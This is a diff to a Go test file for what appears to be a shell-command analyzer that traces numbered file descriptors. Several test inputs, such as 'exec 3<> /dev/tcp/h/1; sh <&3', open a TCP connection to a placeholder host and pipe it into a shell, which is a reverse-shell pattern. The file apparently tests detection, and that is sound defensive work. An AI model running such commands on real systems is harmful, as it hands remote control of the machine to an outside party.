@@ -26,6 +26,7 @@ func TestNumberedDescriptors(t *testing.T) {
 		{"in a branch", "if b; then exec 3< f; fi; sh <&3", []string{"b", "exec 3<f", "sh <&3 [file ?]"}},
 		{"in a loop, before it", "while b; do sh <&3; exec 3< f; done", []string{"b [file ?]", "sh <&3 [file ?]", "exec 3<f [file ?]"}},
 		{"in a subshell", "exec 3< f; (exec 3< g); sh <&3", []string{"exec 3<f", "exec 3<g", "sh <&3 [file f]"}},
+		{"a connection, written to by its number", "exec 3<> /dev/tcp/h/1; a >&3", []string{"exec 3<>/dev/tcp/h/1", "a >/dev/tcp/h/1"}},
 		{"a connection in a branch", "if b; then exec 3<> /dev/tcp/h/1; fi; sh <&3", []string{"b", "exec 3<>/dev/tcp/h/1", "sh <&3 [file /dev/tcp/h/1]"}},
 		{"a connection after &&", "b && exec 0<> /dev/tcp/h/1; sh", []string{"b", "exec 0<>/dev/tcp/h/1 [file /dev/tcp/h/1]", "sh [file /dev/tcp/h/1]"}},
 		{"a process in a branch", "b && exec 3< <(c); sh <&3", []string{"b", "c", "exec 3<?", "sh <&3 [pipe c]"}},
